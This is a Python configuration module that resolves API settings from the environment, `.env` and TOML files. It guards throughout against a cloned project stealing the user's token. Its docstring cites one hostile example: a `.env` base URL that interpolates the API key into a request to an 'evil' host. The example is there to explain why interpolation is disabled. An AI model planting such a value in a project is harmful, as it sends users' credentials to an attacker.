"""Reads settings from the environment, `.env`, `pyproject.toml` and the user's `config.toml`.

A file is read again when it has changed. The process's environment is never modified. A `.env` is
read without interpolation: in a cloned project, `SWIFTASK_BASE_URL=https://evil/${SWIFTASK_API_KEY}`
would otherwise send the user's token to that host.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

from swiftask_jupyter.errors import ConfigurationError
from swiftask_jupyter.support.structs import Redacted

# The variable of each setting, in the environment and in a `.env`.
VARIABLES = {
    "token": "SWIFTASK_API_KEY",
    "agent": "SWIFTASK_AGENT_SLUG",
    "base_url": "SWIFTASK_BASE_URL",
    "dialect": "SWIFTASK_DIALECT",
    "connection": "SWIFTASK_CONNECTION",
}
# The keys that a table of settings in a TOML file may have.
TABLE_KEYS = frozenset(("agent", "base_url", "dialect", "token_env", "connection", "connections"))


class ResolvedSetting(Redacted, frozen=True):
    """The value of one setting, and where it was set.

    Attributes:
        value: the value.
        origin: a text that says where it was set, such as `SWIFTASK_API_KEY in the environment`.
        file: the path of the project's file that sets it, which another person may have written;
            empty for all other sources.
    """

    redacted_fields = frozenset(("value",))

    value: str
    origin: str
    file: str = ""


class Table(Redacted, frozen=True):
    """The settings in one table of a TOML file: those of the file, or of one named connection.

    Attributes:
        values: the keys and values.
        origin: a text that names the file and, for a named connection, the connection.
        file: the path of a project's `pyproject.toml`; empty for the user's own `config.toml`.
    """

    redacted_fields = frozenset(("values",))

    values: Mapping[str, Any]
    origin: str
    file: str

    @property
    def connections(self) -> Mapping[str, Any]:
        """The tables of the named connections, by name."""
        named: Mapping[str, Any] = self.values.get("connections", {})
        return named


class Sources:
    """Reads settings from the environment variables and the files.

    Args:
        environ: the environment variables.
        directory: where the search for `.env` and `pyproject.toml` begins; it continues in the
            parent directories. Default: the current directory at the time of each reading.
    """

    def __init__(self, environ: Mapping[str, str], directory: Path | None = None) -> None:
        self._environ = environ
        self._directory = directory
        self._cache: dict[Path, tuple[tuple[int, int], Any]] = {}

    def layers(self) -> Iterator[dict[str, ResolvedSetting]]:
        """Yield the settings of each source by name; the highest precedence comes first.

        Raises:
            ConfigurationError: a file cannot be read, or has an invalid setting.
        """
        yield _from_variables(self._environ, "the environment")
        if (path := self._find_upward(".env")) is not None:
            yield _from_variables(self._read(path, _dotenv), str(path), file=str(path))
        for table in self.tables():
            yield self._from_table(table)

    def tables(self) -> Iterator[Table]:
        """Yield the table of the project's `pyproject.toml`, then that of the user's `config.toml`.

        The project's file is the nearest one with a table `tool.swiftask`, in the start directory
        or above. A missing file is skipped.

        Raises:
            ConfigurationError: a file cannot be read, or has an invalid setting.
        """
        for directory in self._directories():
            path = directory / "pyproject.toml"
            values = self._read(path, _toml).get("tool") if path.is_file() else None
            if isinstance(values, dict) and "swiftask" in values:
                yield _validated(values["swiftask"], str(path), str(path))
                break
        path = user_config_path()
        if path.is_file():
            yield _validated(self._read(path, _toml), str(path), "")

    def connection_names(self) -> list[str]:
        """Return the sorted names of all connections in `pyproject.toml` and `config.toml`."""
        return sorted({name for table in self.tables() for name in table.connections})

    def connection(self, name: str) -> dict[str, ResolvedSetting]:
        """Return the settings of a named connection.

        Raises:
            ConfigurationError: no connection has that name.
        """
        return self._from_table(self._connection_table(name))

    def missing_token_reason(self, name: str) -> str:
        """Return the reason why a named connection has no token, as a part of an error message."""
        variable = self._connection_table(name).values.get("token_env")
        if variable is None:
            return f"connection {name} names no token_env"
        return f"{variable}, which connection {name} names, is not set"

    def _connection_table(self, name: str) -> Table:
        for table in self.tables():
            if name in table.connections:
                origin = f"connection {name} in {table.origin}"
                return _validated(table.connections[name], origin, table.file)
        names = self.connection_names()
        there_is = f"there is: {', '.join(names)}" if names else "none is configured"
        raise ConfigurationError(f"no connection {name!r}", advice=there_is)

    def _from_table(self, table: Table) -> dict[str, ResolvedSetting]:
        settings = {
            key: ResolvedSetting(value, table.origin, table.file)
            for key, value in table.values.items()
            if key not in {"token_env", "connections"}
        }
        if (name := table.values.get("token_env")) and (token := self._token(name, table)):
            settings["token"] = token
        return settings

    def _token(self, variable: str, table: Table) -> ResolvedSetting | None:
        """Return the token in this variable, from the environment or else from a `.env` file.

        Return `None` if neither sets the variable.

        Raises:
            ConfigurationError: a project's file names a variable that does not begin with
                `SWIFTASK_`.
        """
        if table.file and not variable.startswith("SWIFTASK_"):
            raise ConfigurationError(
                f"{table.origin} asks for the variable {variable} as its token",
                advice="a project's file may name only variables that begin with SWIFTASK_",
            )
        if value := self._environ.get(variable):
            return ResolvedSetting(value, f"{variable} in the environment")
        path = self._find_upward(".env")
        value = self._read(path, _dotenv).get(variable) if path is not None else None
        return ResolvedSetting(value, f"{variable} in {path}", str(path)) if value else None

    def _directories(self) -> Iterator[Path]:
        start = self._directory
        if start is None:
            try:
                start = Path.cwd()
            except OSError:  # the current directory was deleted
                return
        yield start
        yield from start.parents

    def _find_upward(self, name: str) -> Path | None:
        return next((path for each in self._directories() if (path := each / name).is_file()), None)

    def _read(self, path: Path, parse: Callable[[Path], Any]) -> Any:
        """Return the parsed content of a file; parse it again only if its time or size has changed.

        Raises:
            ConfigurationError: the file can't be read or parsed.
        """
        try:
            state = path.stat()
            stamp = (state.st_mtime_ns, state.st_size)
            if path not in self._cache or self._cache[path][0] != stamp:
                self._cache[path] = (stamp, parse(path))
        except (OSError, ValueError) as error:
            raise ConfigurationError(f"{path} can't be read ({error})") from None
        return self._cache[path][1]


def user_config_path() -> Path:
    """Return the path of the user's `config.toml`; the file may not exist."""
    import platformdirs

    return Path(platformdirs.user_config_dir("swiftask_jupyter", appauthor=False)) / "config.toml"


def _from_variables(
    values: Mapping[str, str], origin: str, file: str = ""
) -> dict[str, ResolvedSetting]:
    return {
        key: ResolvedSetting(value, f"{variable} in {origin}", file)
        for key, variable in VARIABLES.items()
        if (value := values.get(variable))
    }


def _dotenv(path: Path) -> dict[str, str]:
    from dotenv import dotenv_values

    values = dotenv_values(path, interpolate=False)
    return {name: value for name, value in values.items() if value is not None}


def _toml(path: Path) -> dict[str, Any]:
    import tomllib

    return tomllib.loads(path.read_text("utf-8-sig"))  # some editors write a byte order mark


def _validated(values: Any, origin: str, file: str) -> Table:
    """Check the keys and the types of the values in a table of settings, and return the table.

    A value of the wrong type is an error and is not ignored: a connection whose base URL is ignored
    would send its token to the default host.

    Raises:
        ConfigurationError: a key is unknown, or a value has the wrong type.
    """
    if not isinstance(values, dict):
        raise ConfigurationError(f"{origin} is not a table of settings")
    if "token" in values:
        raise ConfigurationError(
            f"{origin} holds a token", advice='write token_env = "SWIFTASK_…" there instead'
        )
    if unknown := sorted(values.keys() - TABLE_KEYS):
        raise ConfigurationError(
            f"{origin} holds an unknown setting {unknown[0]!r}",
            advice=f"known are: {', '.join(sorted(TABLE_KEYS))}",
        )
    for key, value in values.items():
        if key == "connections":
            if not isinstance(value, dict):
                raise ConfigurationError(f"connections in {origin} is not a table of connections")
        elif not isinstance(value, str) or not value.strip():
            raise ConfigurationError(f"{key} in {origin} must be text, and not empty")
    return Table(values, origin, file)
